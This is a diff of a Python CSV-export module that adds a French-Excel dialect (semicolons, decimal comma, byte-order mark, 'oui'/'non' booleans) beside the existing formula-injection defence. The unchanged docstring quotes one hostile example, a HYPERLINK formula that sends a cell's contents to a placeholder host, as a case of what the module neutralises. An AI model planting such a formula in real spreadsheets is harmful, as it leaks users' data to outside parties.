@@ -7,6 +7,11 @@ name `=HYPERLINK("http://…?leak="&B2,"Béziers")`). Following OWASP's guidance
 quote so that it is shown as the text it is. Numbers are left alone: only text is neutralised.
 CSV files are written the RFC 4180 way (CRLF line ends), so that a field holding a carriage return
 or a line feed is quoted and cannot split its row.
+
+Two dialects: the machine one (`,`, decimal point, UTF-8 without BOM, booleans `true`/`false`)
+and the French-Excel one, which a French Excel opens by double-click into columns: `;` between
+fields, decimal comma, a UTF-8 byte-order mark (without it Excel reads UTF-8 as Windows-1252) and
+booleans `oui`/`non`. Rounding and French headers are the caller's (they depend on the column).
 """
 
 from __future__ import annotations
@@ -37,7 +42,20 @@ def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
     return out
 
 
-def write_csv(frame: pd.DataFrame, path: Path) -> None:
+def write_csv(frame: pd.DataFrame, path: Path, *, excel_fr: bool = False) -> None:
     """`frame` as CSV at `path` (no index), its text neutralised and every field holding a
-    delimiter, quote, CR or LF quoted."""
-    safe_frame(frame).to_csv(path, index=False, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
+    delimiter, quote, CR or LF quoted; `excel_fr`: the French-Excel dialect."""
+    out = safe_frame(frame)
+    yes, no = ("oui", "non") if excel_fr else ("true", "false")
+    for column in out.columns:
+        if pd.api.types.is_bool_dtype(out[column]):
+            out[column] = out[column].map({True: yes, False: no})
+    out.to_csv(
+        path,
+        index=False,
+        sep=";" if excel_fr else ",",
+        decimal="," if excel_fr else ".",
+        encoding="utf-8-sig" if excel_fr else "utf-8",
+        quoting=csv.QUOTE_MINIMAL,
+        lineterminator="\r\n",
+    )
